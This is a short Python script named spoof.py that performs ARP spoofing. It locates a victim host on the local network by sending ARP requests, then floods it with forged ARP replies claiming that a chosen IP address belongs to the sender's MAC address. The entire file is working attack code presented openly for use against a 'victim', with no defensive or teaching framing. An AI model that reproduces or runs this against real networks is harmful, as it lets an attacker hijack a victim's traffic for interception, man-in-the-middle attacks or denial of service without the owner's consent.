#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""
spoof.py VICTIM CLAIMED [COUNT] - tell VICTIM that the address CLAIMED is here

Sends ARP replies (RFC 826) that nobody asked for.  The victim is found by asking for it, as any host
does; nothing else is needed, since whoever hears a reply believes it.
"""
import fcntl
import socket
import struct
import sys
import time

ETH_P_ARP = 0x0806
REQUEST, REPLY = 1, 2
SIOCGIFHWADDR = 0x8927
BROADCAST, NOBODY = b"\xff" * 6, b"\0" * 6


def my_address(card, name="eth0"):
    answer = fcntl.ioctl(card, SIOCGIFHWADDR, struct.pack("16s16x", name.encode()))
    return answer[18:24]


def arp(operation, sender, sender_ip, target, target_ip):
    """A frame: to the target, or to all who may know it."""
    packet = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, operation, sender, sender_ip, target, target_ip)
    to = BROADCAST if operation == REQUEST else target
    return to + sender + struct.pack("!H", ETH_P_ARP) + packet + bytes(18)


def find(card, me, victim_ip):
    """Asks for the victim, as if out of nowhere (0.0.0.0), until it answers."""
    card.settimeout(0.5)
    for _ in range(5):
        card.send(arp(REQUEST, me, bytes(4), NOBODY, victim_ip))
        try:
            while True:
                frame = card.recv(2000)
                if frame[20:22] == struct.pack("!H", REPLY) and frame[28:32] == victim_ip:
                    return frame[22:28]
        except TimeoutError:
            pass
    sys.exit("the victim does not answer")


def main(victim, claimed, count):
    card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
    card.bind(("eth0", ETH_P_ARP))
    me = my_address(card)
    victim_ip, claimed_ip = socket.inet_aton(victim), socket.inet_aton(claimed)
    target = find(card, me, victim_ip)
    for _ in range(count):
        card.send(arp(REPLY, me, claimed_ip, target, victim_ip))
        time.sleep(0.1)
    print(f"told {victim} ({target.hex(':')}) {count} times that {claimed} is {me.hex(':')}")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 15)
